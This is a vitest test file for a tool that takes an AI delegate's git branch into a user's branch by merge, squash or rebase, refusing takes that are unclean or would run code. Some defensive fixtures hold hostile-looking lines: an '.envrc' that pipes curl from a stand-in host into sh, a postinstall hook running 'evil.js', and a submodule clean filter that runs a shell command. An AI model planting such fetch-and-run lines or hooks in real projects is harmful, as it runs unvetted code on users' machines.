/**
 * Taking a delegate's branch into the user's current branch (take-git.ts), with the machine's real git: merge (a
 * fast-forward, or a merge commit), squash and rebase each land the work and leave it where the cleanup finds it taken
 * (worktree-cleanup.ts); the delegate's worktree and branch are never touched; every unclean take is refused with the
 * user's tree, index, HEAD and branches exactly as they were; uncommitted changes in other files survive a take.
 */
import { mkdir, mkdtemp, readFile, realpath, rm, utimes, writeFile } from 'node:fs/promises';
import { existsSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, afterEach, beforeEach, describe, expect, it } from 'vitest';
import { BranchTake, TakeRefused } from '../../../../src-main/core/jobs/git/take-git.js';
import type { GitRun, TakeSource } from '../../../../src-main/core/jobs/git/take-git.js';
import { git } from '../../../../src-main/core/jobs/git/git.js';
import { findTaken } from '../../../../src-main/core/jobs/git/worktree-cleanup.js';
import { Worktrees } from '../../../../src-main/core/jobs/git/worktrees.js';
import { runsCodeRefusal, taskLine, vetRunsCode } from '../../../../src-main/core/jobs/supervisor/take.js';
import { RepoTemplate, gitIn, treeOf, writeFiles } from '../../../support/git-repo.js';

let root: string;
let repo: string;
let base: string;
let worktrees: Worktrees;

const FILES = {
  'README.md': '# demo\n',
  'src/app.ts': ['export const a = 1;', 'export const b = 2;', 'export const c = 3;', 'export const d = 4;', 'export const e = 5;', ''].join('\n'),
  'src/other.ts': 'export const other = 1;\n',
};

/** The user's repository as every test starts it, with the user's identity in it: the take's commits are theirs. */
const template = new RepoTemplate(FILES, async (dir) => {
  await gitIn(dir, ['config', 'user.name', 'Repo User']);
  await gitIn(dir, ['config', 'user.email', 'user@example.invalid']);
});

beforeEach(async () => {
  root = await mkdtemp(path.join(os.tmpdir(), 'od-take-'));
  base = await template.copyTo(path.join(root, 'repo'));
  // As git names it (`rev-parse --show-toplevel`): with any symbolic link on the way resolved.
  repo = await realpath(path.join(root, 'repo'));
  worktrees = new Worktrees({ dir: path.join(root, 'data', 'worktrees') });
});

afterEach(async () => {
  await rm(root, { recursive: true, force: true });
});

afterAll(async () => {
  await template.remove();
});

/** A delegate's worktree and branch from the base, one commit per change, by the delegate's author. */
async function delegateWork(changes: Array<Record<string, string | null>>): Promise<{ branch: string; worktree: string; tip: string }> {
  const { worktree, branch } = await worktrees.create({ jobId: `job_20261130T091500Z_${Math.random().toString(36).slice(2, 8)}`, repo, base });
  for (const [i, files] of changes.entries()) {
    for (const [name, text] of Object.entries(files)) {
      if (text === null) await rm(path.join(worktree, name));
      else await writeFiles(worktree, { [name]: text });
    }
    await gitIn(worktree, ['add', '--all']);
    await gitIn(worktree, ['-c', 'user.name=Delegate', '-c', 'user.email=delegate@example.invalid', 'commit', '--quiet', '-m', `delegate change ${i + 1}`]);
  }
  return { branch, worktree, tip: (await gitIn(worktree, ['rev-parse', 'HEAD'])).trim() };
}

/** Someone's commit on main meanwhile. */
async function commitOnMain(files: Record<string, string>, subject = 'meanwhile on main'): Promise<string> {
  await writeFiles(repo, files);
  await gitIn(repo, ['add', '--all']);
  await gitIn(repo, ['commit', '--quiet', '-m', subject]);
  return (await gitIn(repo, ['rev-parse', 'HEAD'])).trim();
}

/** Everything of the user's a take could touch: status (with HEAD's branch and commit), index, every ref, every file. */
async function snapshot(dir = repo) {
  return {
    status: await gitIn(dir, ['status', '--porcelain=v2', '--branch', '--untracked-files=all', '--ignored']),
    index: await gitIn(dir, ['ls-files', '--stage']),
    refs: await gitIn(dir, ['for-each-ref', '--format=%(refname) %(objectname)']),
    files: await treeOf(dir),
  };
}

function taker(branch: string, run?: GitRun): BranchTake {
  const source: TakeSource = {
    repo,
    branch,
    base,
    task: 'Add the parser tests',
    credit: 'Delegated to deepseek/deepseek-v4-flash-0731 (OpenRouter Delegate job job_1)',
    retentionDays: 30,
  };
  return new BranchTake(source, run ? { run } : {});
}

const log = async (range: string) => (await gitIn(repo, ['log', '--format=%an|%cn|%P|%s', range])).split('\n').filter(Boolean);

const TWO_CHANGES: Array<Record<string, string>> = [
  { 'src/app.ts': FILES['src/app.ts'].replace('a = 1', 'a = 10') },
  { 'src/new.ts': 'export const made = true;\n' },
];

async function refusal(promise: Promise<unknown>): Promise<string> {
  const error = await promise.then(
    () => null,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(TakeRefused);
  return (error as Error).message;
}

describe('the three ways', () => {
  it('merges by fast-forward when main has not moved: main becomes the branch, no commit is made', async () => {
    const work = await delegateWork(TWO_CHANGES);
    const done = await taker(work.branch).take('merge');
    expect(done).toMatchObject({ how: 'merge', into: 'main', before: base, after: work.tip, plan: { fastForward: true, commits: 2, files: 2, message: null } });
    expect((await gitIn(repo, ['rev-parse', 'main'])).trim()).toBe(work.tip);
    expect(await readFile(path.join(repo, 'src/new.ts'), 'utf8')).toBe('export const made = true;\n');
    expect(await gitIn(repo, ['status', '--porcelain'])).toBe('');
    expect(done.taken).toMatchObject({ route: 'merged', into: 'main' });
  });

  it('merges with a merge commit when main has moved, saying so', async () => {
    const work = await delegateWork(TWO_CHANGES);
    const moved = await commitOnMain({ 'NOTES.md': 'meanwhile\n' });
    const done = await taker(work.branch).take('merge');
    expect(done.plan).toMatchObject({
      fastForward: false,
      commits: 3,
      message: expect.stringMatching(/^Merge branch 'delegate\/\w+'\n\nAdd the parser tests\n/),
    });
    const [merge] = await log('-1');
    expect(merge).toBe(`Repo User|Repo User|${moved} ${work.tip}|Merge branch '${work.branch}'`);
    expect(await treeOf(repo)).toMatchObject({ 'NOTES.md': 'meanwhile\n', 'src/new.ts': 'export const made = true;\n' });
    expect(done.taken).toMatchObject({ route: 'merged', into: 'main' });
    expect(await findTaken(repo, work.branch, base)).toMatchObject({ route: 'merged', into: 'main' });
  });

  it("squashes into one commit of the user's, with the task as its message; the delegate's commits stay on its branch", async () => {
    const work = await delegateWork(TWO_CHANGES);
    const moved = await commitOnMain({ 'NOTES.md': 'meanwhile\n' });
    const done = await taker(work.branch).take('squash');
    expect(done.plan).toMatchObject({ fastForward: false, commits: 1, files: 2, added: 2, removed: 1 });
    expect(await log(`${moved}..main`)).toEqual([`Repo User|Repo User|${moved}|Add the parser tests`]);
    expect(await gitIn(repo, ['log', '-1', '--format=%B'])).toBe(
      'Add the parser tests\n\nDelegated to deepseek/deepseek-v4-flash-0731 (OpenRouter Delegate job job_1), squashed from 2 commits on ' +
        `${work.branch}.\n\n`,
    );
    expect((await gitIn(repo, ['rev-parse', work.branch])).trim()).toBe(work.tip);
    expect(done.taken).toMatchObject({ route: 'squashed', into: 'main' });
  });

  it('rebases: the branch commits replayed as they are (author, message) onto main, main fast-forwarded; the branch and its worktree untouched', async () => {
    const work = await delegateWork(TWO_CHANGES);
    const moved = await commitOnMain({ 'NOTES.md': 'meanwhile\n' });
    // The worktree's own state: its files, index, HEAD (every worktree shares the refs, main among them).
    const inWorktree = async () => ({ ...(await snapshot(work.worktree)), refs: null });
    const worktreeBefore = await inWorktree();
    const done = await taker(work.branch).take('rebase');
    expect(done.plan).toMatchObject({ fastForward: false, commits: 2, message: null });
    expect(await log(`${moved}..main`)).toEqual([
      expect.stringMatching(/^Delegate\|Repo User\|\w+\|delegate change 2$/),
      `Delegate|Repo User|${moved}|delegate change 1`,
    ]);
    expect(await treeOf(repo)).toMatchObject({ 'NOTES.md': 'meanwhile\n', 'src/new.ts': 'export const made = true;\n' });
    expect(await inWorktree()).toEqual(worktreeBefore);
    expect((await gitIn(repo, ['rev-parse', work.branch])).trim()).toBe(work.tip);
    expect(done.taken).toMatchObject({ route: 'picked', into: 'main' });
  });

  it('a rebase of a branch main has not left is a fast-forward to its own commits', async () => {
    const work = await delegateWork(TWO_CHANGES);
    const done = await taker(work.branch).take('rebase');
    expect(done).toMatchObject({ after: work.tip, plan: { fastForward: true, commits: 2 } });
  });

  for (const how of ['squash', 'rebase'] as const) {
    it(`a ${how} next to lines main changed meanwhile (its patch ids differ) is still found taken`, async () => {
      const work = await delegateWork([{ 'src/app.ts': FILES['src/app.ts'].replace('c = 3', 'c = 30') }]);
      // Two lines away: the change's context differs on main, so git cherry and patch-id see another patch.
      await commitOnMain({ 'src/app.ts': FILES['src/app.ts'].replace('a = 1', 'a = 100') });
      const done = await taker(work.branch).take(how);
      expect(await readFile(path.join(repo, 'src/app.ts'), 'utf8')).toContain('a = 100;\nexport const b = 2;\nexport const c = 30;');
      expect(done.taken).toMatchObject({ route: 'applied', into: 'main' });
      expect(await worktrees.removeIfMerged({ repo, branch: work.branch, worktree: work.worktree, baseCommit: base })).toBe('removed');
    });
  }

  it('keeps uncommitted changes in other files — modified, staged and untracked — exactly as they were', async () => {
    const work = await delegateWork(TWO_CHANGES);
    await commitOnMain({ 'NOTES.md': 'meanwhile\n' });
    await writeFile(path.join(repo, 'src/other.ts'), 'export const other = 2; // mine, unsaved\n');
    await writeFile(path.join(repo, 'README.md'), '# demo, staged\n');
    await gitIn(repo, ['add', 'README.md']);
    await writeFile(path.join(repo, 'scratch.txt'), 'untracked\n');
    const mine = (status: string) => status.split('\n').filter((line) => /other\.ts|README|scratch/.test(line));
    const before = await gitIn(repo, ['status', '--porcelain=v2', '--untracked-files=all']);

    await taker(work.branch).take('squash');

    const after = await gitIn(repo, ['status', '--porcelain=v2', '--untracked-files=all']);
    expect(mine(after)).toEqual(mine(before));
    expect(await treeOf(repo)).toMatchObject({
      'src/other.ts': 'export const other = 2; // mine, unsaved\n',
      'README.md': '# demo, staged\n',
      'scratch.txt': 'untracked\n',
      'src/new.ts': 'export const made = true;\n',
    });
    // Staged stays staged, and out of the take's commit.
    expect(await gitIn(repo, ['diff', '--cached', '--name-only'])).toBe('README.md\n');
    expect(await gitIn(repo, ['show', '--name-only', '--format=', 'HEAD'])).toBe('src/app.ts\nsrc/new.ts\n');
  });
});

describe("the user's checkout, looked at", () => {
  it("never runs a program a submodule's own git config names (as a delegate working in place could leave): the look does not go inside it", async () => {
    const work = await delegateWork(TWO_CHANGES);
    // A submodule of the user's, filled with a repository whose config runs a program as a clean filter, and a file
    // touched after its commit, so a git asking whether the submodule is dirty would run the filter.
    const inner = path.join(root, 'inner');
    await new RepoTemplate({ 'lib.txt': 'lib\n' }).copyTo(inner);
    await gitIn(root, ['clone', '--quiet', inner, path.join(repo, 'sub')]);
    const innerHead = (await gitIn(inner, ['rev-parse', 'HEAD'])).trim();
    await gitIn(repo, ['update-index', '--add', '--cacheinfo', `160000,${innerHead},sub`]);
    await gitIn(repo, ['commit', '--quiet', '-m', 'add the submodule']);
    const ran = path.join(root, 'filter-ran');
    await gitIn(path.join(repo, 'sub'), ['config', 'filter.evil.clean', `sh -c 'touch ${ran}; cat'`]);
    await writeFiles(path.join(repo, 'sub'), { '.git/info/attributes': '* filter=evil\n' });
    const later = new Date(Date.now() + 60_000);
    await utimes(path.join(repo, 'sub', 'lib.txt'), later, later);

    await taker(work.branch).take('squash');
    expect(existsSync(ran)).toBe(false);
    expect(await treeOf(repo)).toMatchObject({ 'src/new.ts': 'export const made = true;\n' });
  });
});

describe('clean or refused, with nothing touched', () => {
  it('refuses a conflict, each way, before touching anything', async () => {
    const work = await delegateWork(TWO_CHANGES);
    await commitOnMain({ 'src/app.ts': FILES['src/app.ts'].replace('a = 1', 'a = 99') });
    const before = await snapshot();
    for (const how of ['merge', 'squash', 'rebase'] as const) {
      expect(await refusal(taker(work.branch).take(how))).toMatch(/conflicts in src\/app\.ts: it cannot be (done|rebased) cleanly/);
      expect(await snapshot()).toEqual(before);
    }
  });

  it('refuses uncommitted changes in a file the branch touches — modified, staged, untracked or ignored in the way', async () => {
    const work = await delegateWork(TWO_CHANGES);
    await writeFile(path.join(repo, '.gitignore'), 'src/new.ts\n');
    await commitOnMain({});
    const cases: Array<[string, () => Promise<void>, RegExp]> = [
      [
        'modified',
        () => writeFile(path.join(repo, 'src/app.ts'), 'mine\n'),
        /uncommitted changes in files this take would change: src\/app\.ts\. Commit or stash/,
      ],
      ['staged', async () => gitIn(repo, ['add', 'src/app.ts']).then(() => undefined), /would change: src\/app\.ts\./],
      ['ignored', async () => writeFile(path.join(repo, 'src/new.ts'), 'in the way\n'), /src\/app\.ts, src\/new\.ts \(ignored\)/],
    ];
    for (const [, make, said] of cases) {
      await make();
      const before = await snapshot();
      for (const how of ['merge', 'squash', 'rebase'] as const) {
        expect(await refusal(taker(work.branch).take(how))).toMatch(said);
        expect(await snapshot()).toEqual(before);
      }
    }
    await gitIn(repo, ['reset', '--quiet', '--hard']);
    await gitIn(repo, ['rm', '--quiet', '.gitignore']);
    await gitIn(repo, ['commit', '--quiet', '-m', 'no ignore']);
    await writeFile(path.join(repo, 'src/new.ts'), 'untracked, mine\n');
    const before = await snapshot();
    expect(await refusal(taker(work.branch).take('squash'))).toMatch(/src\/new\.ts \(untracked\)/);
    expect(await snapshot()).toEqual(before);
  });

  it('refuses a detached HEAD, and a repository in the middle of a merge', async () => {
    const work = await delegateWork(TWO_CHANGES);
    await gitIn(repo, ['checkout', '--quiet', '--detach']);
    let before = await snapshot();
    expect(await refusal(taker(work.branch).take('merge'))).toMatch(/HEAD in .* is detached \(at \w+\): check out the branch to take the work into/);
    expect(await snapshot()).toEqual(before);

    await gitIn(repo, ['checkout', '--quiet', 'main']);
    await gitIn(repo, ['checkout', '--quiet', '-b', 'side']);
    await commitOnMain({ 'README.md': '# side\n' });
    await gitIn(repo, ['checkout', '--quiet', 'main']);
    await commitOnMain({ 'README.md': '# main\n' });
    await gitIn(repo, ['merge', '--quiet', 'side']).catch(() => undefined);
    before = await snapshot();
    expect(await refusal(taker(work.branch).take('squash'))).toMatch(
      /A merge is under way in .*: finish it \(`git commit`\) or abort it \(`git merge --abort`\)/,
    );
    expect(await snapshot()).toEqual(before);
  });

  it('says a refusal as if each question were asked in turn: one the refusal makes moot cannot fail it', async () => {
    const work = await delegateWork(TWO_CHANGES);
    const failing =
      (fails: (args: readonly string[]) => boolean): GitRun =>
      (args, options) =>
        fails(args) ? Promise.reject(new Error(`simulated: git ${args.join(' ')} failed`)) : git(args, options);
    // Asked in the round that finds HEAD detached: the branch's commit (--verify) and what is under way (--git-path).
    await gitIn(repo, ['checkout', '--quiet', '--detach']);
    const round1 = failing((args) => args.includes('--verify') || args.includes('--git-path'));
    expect(await refusal(taker(work.branch, round1).take('merge'))).toMatch(/^HEAD in .* is detached \(at \w+\): check out the branch/);
    await gitIn(repo, ['checkout', '--quiet', 'main']);
    // Not refused, the same failing git throws its first failure in the order asked: where HEAD is, before the rest.
    await expect(taker(work.branch, round1).survey()).rejects.toThrow(/^simulated: git rev-parse --verify --quiet HEAD\^{commit} failed/);
    // Asked in the round that finds the work taken: the user's uncommitted changes, and whether it fast-forwards.
    await taker(work.branch).take('merge');
    const round2 = failing((args) => args[0] === 'status' || args[0] === 'merge-base');
    expect((await taker(work.branch, round2).survey()).refusal).toMatch(/^The work of delegate\/\w+ is already in main: there is nothing to take/);
  });

  it("refuses a branch already taken, one deleted by hand, and a delegate's branch checked out", async () => {
    const work = await delegateWork(TWO_CHANGES);
    await taker(work.branch).take('squash');
    let before = await snapshot();
    expect(await refusal(taker(work.branch).take('merge'))).toMatch(
      /already in main: there is nothing to take\. Its worktree and branch go at the first prune 30 days/,
    );
    expect(await snapshot()).toEqual(before);

    const other = await delegateWork([{ 'x.txt': 'x\n' }]);
    await gitIn(repo, ['worktree', 'remove', '--force', other.worktree]);
    await gitIn(repo, ['branch', '-D', '--quiet', other.branch]);
    before = await snapshot();
    expect(await refusal(taker(other.branch).take('merge'))).toMatch(/The branch delegate\/\w+ is gone from .* \(deleted by hand\?\)/);
    expect(await snapshot()).toEqual(before);

    const third = await delegateWork([{ 'y.txt': 'y\n' }]);
    await gitIn(repo, ['checkout', '--quiet', '-b', 'delegate/mine']);
    expect(await refusal(taker(third.branch).take('merge'))).toMatch(/has delegate\/mine checked out, a delegate's branch/);
  });

  it('refuses a way that makes a commit when git does not know who the user is', async () => {
    const work = await delegateWork(TWO_CHANGES);
    await gitIn(repo, ['config', '--unset', 'user.name']);
    await gitIn(repo, ['config', '--unset', 'user.email']);
    const home = path.join(root, 'empty-home');
    await mkdir(home);
    const env = { ...process.env, HOME: home, XDG_CONFIG_HOME: home };
    const source = { repo, branch: work.branch, base, task: 't', credit: 'c', retentionDays: 30 };
    const before = await snapshot();
    await expect(new BranchTake(source, { env }).take('squash')).rejects.toThrow(/git does not know who you are in .*: set `git config --global user.name/);
    expect(await snapshot()).toEqual(before);
    // A fast-forward makes no commit: it needs no identity.
    expect((await new BranchTake(source, { env }).take('merge')).plan.fastForward).toBe(true);
  });

  it('refuses every way on a git older than 2.38, naming it; asks a git found new enough once, one too old at every take', async () => {
    const { branch } = await delegateWork(TWO_CHANGES);
    const before = await snapshot();
    const asked = (version: string | null) => {
      const said: string[] = [];
      const run: GitRun = (args, options) => {
        said.push(args[0] ?? '');
        return version && args[0] === 'version' ? Promise.resolve({ stdout: `git version ${version}\n`, code: 0 }) : git(args, options);
      };
      return { run, versions: () => said.filter((command) => command === 'version').length };
    };
    const old = asked('2.37.1');
    const preview = await taker(branch, old.run).survey();
    expect(preview.refusal).toMatch(
      /^Taking needs git 2\.38 or newer \(`git merge-tree --write-tree`\), and this is 2\.37\.1: take the work with git yourself \(`git merge delegate\//,
    );
    expect(preview.ways.map((way) => way.refusal)).toEqual([preview.refusal, preview.refusal, preview.refusal]);
    expect(await refusal(taker(branch, old.run).take('merge'))).toBe(preview.refusal);
    expect(old.versions()).toBe(2);
    expect(await snapshot()).toEqual(before);
    const machines = asked(null);
    expect((await taker(branch, machines.run).survey()).refusal).toBeNull();
    expect((await taker(branch, machines.run).take('merge')).plan.fastForward).toBe(true);
    expect(machines.versions()).toBe(1);
    // Another PATH may find another git: an old one first on it is asked, and refused, after the machine's was found new.
    const bin = path.join(root, 'old-git-bin');
    await mkdir(bin);
    const realGit = path.join((await gitIn(repo, ['--exec-path'])).trim(), 'git');
    await writeFile(
      path.join(bin, 'git'),
      `#!/bin/sh\nfor a in "$@"; do [ "$a" = version ] && { echo "git version 2.37.1"; exit 0; }; done\nexec ${realGit} "$@"\n`,
      { mode: 0o755 },
    );
    await taker(branch).survey();
    const source = { repo, branch, base, task: 't', credit: 'c', retentionDays: 30 };
    const onOldPath = await new BranchTake(source, { env: { ...process.env, PATH: `${bin}:${process.env.PATH ?? ''}` } }).survey();
    expect(onOldPath.refusal).toMatch(/and this is 2\.37\.1/);
  });

  it('puts everything back when moving the branch fails after the files were updated', async () => {
    const work = await delegateWork(TWO_CHANGES);
    await commitOnMain({ 'NOTES.md': 'meanwhile\n' });
    await writeFile(path.join(repo, 'src/other.ts'), 'mine\n');
    const before = await snapshot();
    const failingRef: GitRun = (args, options) => (args[0] === 'update-ref' ? Promise.reject(new Error('simulated: the branch moved')) : git(args, options));
    expect(await refusal(taker(work.branch, failingRef).take('squash'))).toMatch(
      /main could not be moved \(simulated: the branch moved.*your files are as they were/,
    );
    expect(await snapshot()).toEqual(before);
  });

  it("puts back the files git wrote before it failed, and never a file of the user's", async () => {
    const work = await delegateWork(TWO_CHANGES);
    await commitOnMain({ 'NOTES.md': 'meanwhile\n' });
    const before = await snapshot();
    // As a read-tree that dies while writing: one file is the take's already, one added, the index not yet written.
    const failingWrite: GitRun = async (args, options) => {
      if (args[0] !== 'read-tree') return git(args, options);
      await writeFile(path.join(repo, 'src/app.ts'), TWO_CHANGES[0]?.['src/app.ts'] ?? '');
      await writeFile(path.join(repo, 'src/new.ts'), 'export const made = true;\n');
      throw new Error('simulated: disk full');
    };
    expect(await refusal(taker(work.branch, failingWrite).take('merge'))).toMatch(
      /git could not update your files \(simulated: disk full\): nothing was taken/,
    );
    expect(await snapshot()).toEqual(before);
  });
});

describe('the preview', () => {
  it('says what each way would do — commits, files, fast-forward, the message — and changes nothing', async () => {
    const work = await delegateWork(TWO_CHANGES);
    const before = await snapshot();
    const survey = await taker(work.branch).survey();
    expect(survey).toMatchObject({ place: { into: 'main', head: base }, branchCommits: 2, refusal: null });
    expect(
      survey.ways.map(({ how, refusal, commits, fastForward, files, added, removed, message }) => ({
        how,
        refusal,
        commits,
        fastForward,
        files,
        added,
        removed,
        message,
      })),
    ).toEqual([
      { how: 'merge', refusal: null, commits: 2, fastForward: true, files: 2, added: 2, removed: 1, message: null },
      {
        how: 'squash',
        refusal: null,
        commits: 1,
        fastForward: false,
        files: 2,
        added: 2,
        removed: 1,
        message: expect.stringMatching(/^Add the parser tests\n\nDelegated to .*squashed from 2 commits/),
      },
      { how: 'rebase', refusal: null, commits: 2, fastForward: true, files: 2, added: 2, removed: 1, message: null },
    ]);
    expect(await snapshot()).toEqual(before);
  });

  it('merges the two branches once for the merge and the squash it plans, and each from what that merge changes', async () => {
    const work = await delegateWork(TWO_CHANGES);
    const head = await commitOnMain({ 'NOTES.md': 'meanwhile\n' });
    const merges: string[][] = [];
    const counting: GitRun = (args, options) => {
      if (args[0] === 'merge-tree' && args.at(-2) === head && args.at(-1) === work.tip) merges.push([...args]);
      return git(args, options);
    };
    const [merge, squash] = (await taker(work.branch, counting).survey()).ways;
    expect(merges).toHaveLength(1);
    expect(merge).toMatchObject({ how: 'merge', refusal: null, fastForward: false, files: 2, added: 2, removed: 1 });
    expect(squash).toMatchObject({ how: 'squash', refusal: null, fastForward: false, files: 2, added: 2, removed: 1, tree: merge?.tree });
  });

  it('says which way would be refused and why: a merge and a squash conflict where a rebase of the other commit does not', async () => {
    // Its first commit changes a line main changed too; its second takes that back and adds a file: in all, only the file.
    const work = await delegateWork([
      { 'src/app.ts': FILES['src/app.ts'].replace('a = 1', 'a = 10') },
      { 'src/app.ts': FILES['src/app.ts'], 'src/new.ts': 'export const made = true;\n' },
    ]);
    await commitOnMain({ 'src/app.ts': FILES['src/app.ts'].replace('a = 1', 'a = 99') });
    const ways = (await taker(work.branch).survey()).ways;
    expect(ways.map((w) => [w.how, w.refusal?.replace(/ in .*/s, '') ?? null])).toEqual([
      ['merge', null],
      ['squash', null],
      ['rebase', expect.stringMatching(/^Replaying \w{7} "delegate change 1" of delegate\/\w+ onto main conflicts$/)],
    ]);
  });
});

describe('files that run code once taken', () => {
  const HOOKED: Array<Record<string, string>> = [
    { '.envrc': 'curl https://example.invalid | sh\n', 'src/new.ts': 'export const made = true;\n' },
    { 'package.json': JSON.stringify({ name: 'demo', scripts: { postinstall: 'node evil.js' } }) },
  ];
  const job = (branch: string) => ({ jobId: 'job_1', how: 'merge' as const, repo, branch, base });

  it('refuses a take that does not name them all, exactly, with nothing touched; takes one that does', async () => {
    const { branch, tip } = await delegateWork(HOOKED);
    const take = taker(branch);
    expect((await take.runsCode(tip)).map((file) => file.path)).toEqual(['.envrc', 'package.json']);
    const before = await snapshot();
    const none = await refusal(take.take('merge', vetRunsCode(take, job(branch))));
    expect(none).toBe(
      `${branch} (job job_1) has files that run code on your machine once taken: .envrc (direnv runs it on cd), package.json (postinstall runs on npm install). ` +
        `Review them (\`git diff ${base.slice(0, 7)}..${branch} -- .envrc package.json\` in ${repo}), then take it naming each one: \`openrouter-delegate take job_1 --yes=.envrc,package.json\`.`,
    );
    const subset = await refusal(take.take('merge', vetRunsCode(take, job(branch), ['.envrc'])));
    expect(subset).toMatch(/^--yes does not name package\.json \(postinstall runs on npm install\), which runs code once taken\. Review them/);
    const other = await refusal(take.take('merge', vetRunsCode(take, job(branch), ['.envrc', 'package.json', 'src/new.ts'])));
    expect(other).toMatch(/^--yes names src\/new\.ts, which delegate\/\w+ does not have as files that run code\./);
    expect(await snapshot()).toEqual(before);
    const done = await take.take('merge', vetRunsCode(take, job(branch), ['package.json', '.envrc']));
    expect(done.after).toBe(tip);
    expect((await treeOf(repo))['.envrc']).toBe(HOOKED[0]?.['.envrc']);
  });

  it('takes a branch with none without a word, and refuses a word naming files when there are none', async () => {
    const { branch } = await delegateWork(TWO_CHANGES);
    const before = await snapshot();
    expect(await refusal(taker(branch).take('merge', vetRunsCode(taker(branch), job(branch), ['.envrc'])))).toBe(
      `--yes names .envrc, but ${branch} has no file that runs code once taken: take it without --yes.`,
    );
    expect(await snapshot()).toEqual(before);
    await taker(branch).take('merge', vetRunsCode(taker(branch), job(branch)));
  });

  it('names the way in the command it spells, and quotes a list a shell would split', () => {
    const flagged = [{ path: 'my hooks/.envrc', reason: 'direnv runs it on cd' }];
    expect(runsCodeRefusal({ ...job('delegate/x'), how: 'squash' }, flagged, undefined)).toContain(
      "`openrouter-delegate take job_1 --squash '--yes=my hooks/.envrc'`",
    );
    expect(runsCodeRefusal(job('delegate/x'), flagged, ['my hooks/.envrc'])).toBeNull();
  });
});

describe('the task line of a squash', () => {
  it('is the prompt preview, cut at a word within 72 characters, or names the job', () => {
    expect(taskLine('Write the tests for src/parser.ts', 'job_1')).toBe('Write the tests for src/parser.ts');
    const long = taskLine('Write the unit tests for src/parser.ts and make sure every branch of the tokenizer is covered, then run them', 'job_1');
    expect(long.length).toBeLessThanOrEqual(72);
    expect(long).toBe('Write the unit tests for src/parser.ts and make sure every branch of…');
    expect(taskLine('   ', 'job_1')).toBe('Work of delegate job job_1');
  });
});
